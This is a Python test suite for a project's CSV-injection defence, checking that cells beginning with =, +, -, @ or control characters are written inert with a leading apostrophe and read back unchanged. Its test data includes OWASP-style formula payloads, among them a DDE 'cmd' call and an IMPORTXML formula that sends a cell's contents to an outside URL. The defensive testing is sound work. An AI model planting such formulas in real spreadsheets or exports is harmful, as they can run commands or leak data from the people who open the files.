"""Formula-looking text is written inert (a leading apostrophe) in every CSV table the jobs write, and
read back as it was; people's own cells are kept and read as they are (issue 8, CSV injection)."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from automations.adapters.csv.blog_store import CsvBlogStore
from automations.adapters.csv.report_store import CsvReportStore
from automations.adapters.csv.safe_cells import TRIGGERS, escape, escape_row, unescape
from automations.adapters.csv.tables import read_table, update_rows
from automations.adapters.files.atomic import atomic_write_rows
from automations.ports import BlogUpdate

AS_OF = "2026-11-23"

# Text made of the characters that matter here (apostrophes, every trigger) and a few others, so
# that quotes-then-trigger prefixes come up often; plus any text at all.
tricky = st.text(alphabet=st.sampled_from(list("'=+-@\t\r\n a\"|!")), max_size=8)
any_text = st.one_of(tricky, st.text(), st.builds(lambda a, b: a + b, tricky, st.text()))


@settings(max_examples=500, deadline=None)
@given(any_text)
def test_escape_and_unescape_are_inverses(s):
    """unescape(escape(s)) == s for every text; escape(s) never starts with a trigger; text that needs
    nothing is left alone."""
    e = escape(s)
    assert unescape(e) == s
    assert not e.startswith(tuple(TRIGGERS))
    if not s.lstrip("'").startswith(tuple(TRIGGERS)):
        assert e == s


@settings(max_examples=300, deadline=None)
@given(any_text)
def test_escape_is_the_inverse_of_unescape_on_what_it_writes(s):
    """Whatever escape writes, unescape maps back, and escaping that again gives the same cell."""
    assert escape(unescape(escape(s))) == escape(s)


def test_examples():
    """The OWASP cases, and a value that already starts with an apostrophe and a trigger."""
    assert escape('=HYPERLINK("http://x","y")') == '\'=HYPERLINK("http://x","y")'
    assert escape("+cmd|' /C calc'!A0") == "'+cmd|' /C calc'!A0"
    assert escape("@evil") == "'@evil" and escape("-2+3") == "'-2+3" and escape("\t=1") == "'\t=1"
    assert escape("\r=1") == "'\r=1"
    assert escape("'=1") == "''=1" and unescape("''=1") == "'=1"
    assert escape("'quoted'") == "'quoted'" and unescape("'quoted'") == "'quoted'"
    assert escape("ana@example.org") == "ana@example.org" and escape("") == ""


def reference(headers, rows) -> bytes:
    """What atomic_write_rows must write: every text cell escaped, one by one; lines end in \\n and
    a cell holding a carriage return is quoted."""
    import io

    def line(row) -> str:
        buf = io.StringIO()
        csv.writer(buf, lineterminator="\r\n").writerow(escape_row(row))
        return buf.getvalue()[:-2] + "\n"

    return "".join(map(line, [headers, *rows])).encode("utf-8")


cell = st.one_of(any_text.filter(lambda t: "\x00" not in t), st.integers(), st.none())


@settings(max_examples=150, deadline=None)
@given(st.lists(st.lists(cell, max_size=5), max_size=12))
def test_table_writer_escapes_every_cell_and_reads_back(tmp_path_factory, rows):
    """The job tables' writer gives exactly the cell-by-cell escaped file, and read_table gives back
    the text (numbers as digits, None as empty)."""
    path = tmp_path_factory.mktemp("t") / "t.csv"
    atomic_write_rows(path, ["A", "=B"], rows)
    assert path.read_bytes() == reference(["A", "=B"], rows)
    headers, got = read_table(path, "test")
    assert headers == ["A", "=B"]
    assert got == [["" if c is None else str(c) for c in r] for r in rows]


def test_table_writer_escapes_a_late_chunk(tmp_path):
    """Thousands of plain rows, one formula far down: written exactly as cell by cell, read back as sent."""
    rows = [[i, f"title {i}", "2026-07-01", "ana@example.org", "a, b", "x+1"] for i in range(5000)]
    rows[3333][1] = "=cmd"
    rows[4999][4] = "-\n+multi-line"
    path = tmp_path / "t.csv"
    atomic_write_rows(path, ["Row", "Title", "Date", "Email", "Text", "Formula"], rows)
    assert path.read_bytes() == reference(["Row", "Title", "Date", "Email", "Text", "Formula"], rows)
    _, got = read_table(path, "test")
    assert got[3333][1] == "=cmd" and got[4999][4] == "-\n+multi-line" and got[0][5] == "x+1"


def test_table_reader_finds_an_escaped_cell_across_its_scan_blocks(tmp_path):
    """The reader scans a table in 1 MiB blocks for cells to unescape: one whose comma ends a block
    and whose apostrophe starts the next is still found."""
    block = 1 << 20
    rows = [["a" * 997, "b"]] * 1048 + [["a" * 567, "b"], ["t", "=cmd"]]  # 4 + 1,048,000 + 570 bytes, then it
    path = tmp_path / "t.csv"
    atomic_write_rows(path, ["A", "B"], rows)
    data = path.read_bytes()
    assert data[block - 1:block + 1] == b",'"
    _, got = read_table(path, "test")
    assert got[-1] == ["t", "=cmd"] and len(got) == len(rows)


# --- end to end: the CLI on a copy of the example program ---------------------------------------

EVIL = {
    "title": '=HYPERLINK("http://x","y")',
    "goal": "+cmd|' /C calc'!A0",
    "audience": "@SUM(1+1)",
    "description": "-2+3",
    "link": '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
}


def _add_responses(responses: Path) -> None:
    with responses.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    headers = rows[0]

    def response(email: str, stamp: str, sections: list[dict]) -> list[str]:
        row = [""] * len(headers)
        row[0], row[1], row[3] = stamp, email, "2026 Q3"
        starts = [i for i, h in enumerate(headers) if h.endswith("What kind of activity was it?")]
        titles = ["kind", "title", "date", "link", "goal", "registrations", "attendees", "hours", "audience",
                  "views", "engagements", "reshares", "description"]
        for start, section in zip(starts, sections):
            for offset, field in enumerate(titles):
                if field in section:
                    row[start + offset] = section[field]
        return row

    rows.append(response("priya.deshmukh@example.org", "15/09/2026 10:00:00", [
        {"kind": "Giving a talk", "date": "10/09/2026", "attendees": "40", "hours": "2", **EVIL},
        {"kind": "Networking", "title": "'=already quoted", "date": "11/09/2026", "goal": "-", "hours": "1",
         "views": "=1+1"},
    ]))
    rows.append(response("@evil", "16/09/2026 10:00:00", [
        {"kind": "Networking", "title": "@evil's meetup", "date": "12/09/2026", "goal": "Grow"},
    ]))
    with responses.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)


def _cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as fh:
        return [c for row in csv.reader(fh) for c in row]


def test_formula_text_is_written_inert_and_read_back(cli, program):
    """After sync-checkins no cell of a table the jobs wrote starts with a trigger; the store and
    compliance --explain give back the text as it was sent; the roster's own cells are untouched."""
    data = program.parent / "data"
    _add_responses(data / "checkin_responses.csv")
    roster_before = (data / "ambassadors.csv").read_bytes()
    res = cli("--as-of", AS_OF, "sync-checkins", config=program)
    assert res.code in (0, 1), res.err
    written = [data / n for n in ("activities.csv", "checkins.csv", "unusable_rows.csv")]
    for path in written:
        bad = [c for c in _cells(path) if c.startswith(tuple(TRIGGERS))]
        assert bad == [], (path.name, bad)
    raw = _cells(data / "activities.csv")
    assert escape(EVIL["title"]) in raw and "''=already quoted" in raw

    acts = {a.title: a for a in CsvReportStore(data).read_activities() if a.email == "priya.deshmukh@example.org"}
    talk = acts[EVIL["title"]]
    assert (talk.goal, talk.audience, talk.description, talk.link) == (
        EVIL["goal"], EVIL["audience"], EVIL["description"], EVIL["link"])
    assert acts["'=already quoted"].goal == "-"
    _, problems = read_table(data / "unusable_rows.csv", "unusable rows")
    values = {c for row in problems for c in row}
    assert {"@evil", "=1+1"} <= values

    res = cli("--as-of", AS_OF, "compliance", "--quarter", "2026Q3", "--explain", "priya.deshmukh@example.org",
              config=program)
    assert res.code in (0, 1), res.err
    assert f"'{EVIL['title']}'" in res.out and "''=already quoted'" in res.out

    # compliance wrote the roster's standing columns; staff's cells (chat handles "@priya.d") are as they were
    def staff_cells(text: str) -> list[list[str]]:
        rows = list(csv.reader(text.splitlines()))
        return [r[:rows[0].index("Standing")] for r in rows]

    before, now = staff_cells(roster_before.decode("utf-8-sig")), staff_cells(
        (data / "ambassadors.csv").read_text(encoding="utf-8-sig"))
    assert now == before and any(c == "@priya.d" for r in now for c in r)


# --- the writers that put the job's values into people's files ------------------------------------

def test_update_rows_escapes_only_the_jobs_values(tmp_path):
    """The job's cells are escaped; a person's cells (even formula-looking ones) stay byte for byte,
    and a second run writes nothing."""
    path = tmp_path / "people.csv"
    path.write_bytes(b"Name,Email,Chat,Result\r\nAna,ana@example.org,@ana,=SUM(A1)\r\nBo,bo@example.org,'=x,\r\n")
    key = lambda row, col: row[col["email"]]  # noqa: E731
    assert update_rows(path, key, {"ana@example.org": {"Result": "=1+1"}, "bo@example.org": {"Result": "ok"}},
                       ["Result"]) == 2
    assert path.read_bytes() == b"Name,Email,Chat,Result\r\nAna,ana@example.org,@ana,'=1+1\r\nBo,bo@example.org,'=x,ok\r\n"
    before = path.stat().st_mtime_ns
    assert update_rows(path, key, {"ana@example.org": {"Result": "=1+1"}}, ["Result"]) == 0
    assert path.stat().st_mtime_ns == before


def test_update_rows_keeps_a_lone_carriage_return_quoted(tmp_path):
    """In a file with LF line endings, a person's cell holding a lone CR stays quoted (Python 3.11's
    csv writer alone would write it bare, and the row would split on the next read)."""
    path = tmp_path / "people.csv"
    path.write_bytes(b'Name,Email,Notes,Result\nAna,ana@example.org,"line\rbreak",\n')
    assert update_rows(path, lambda row, col: row[1], {"ana@example.org": {"Result": "\r=1"}}, ["Result"]) == 1
    assert path.read_bytes() == b'Name,Email,Notes,Result\nAna,ana@example.org,"line\rbreak","\'\r=1"\n'


def test_blog_job_columns_round_trip_people_columns_read_raw(tmp_path):
    """The blog store escapes Document and Stage history and reads them back; a person's title that
    starts with an apostrophe is read as they typed it."""
    path = tmp_path / "blog_proposals.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([["Title", "Author email", "Summary", "Stage"],
                                  ["'=Mautic tips", "ana@example.org", "@everyone", "proposed"]])
    store = CsvBlogStore(path)
    [proposal], problems = store.read()
    assert problems == [] and proposal.title == "'=Mautic tips" and proposal.summary == "@everyone"
    assert store.record({proposal.key: BlogUpdate("=IMPORTXML(x)", (("proposed", date(2026, 9, 1)),))}).changed == 1
    with path.open(encoding="utf-8", newline="") as fh:
        row = next(r for r in csv.DictReader(fh))
    assert row["Document"] == "'=IMPORTXML(x)" and row["Title"] == "'=Mautic tips" and row["Summary"] == "@everyone"
    [again], _ = CsvBlogStore(path).read()
    assert again.document == "=IMPORTXML(x)" and again.title == "'=Mautic tips"
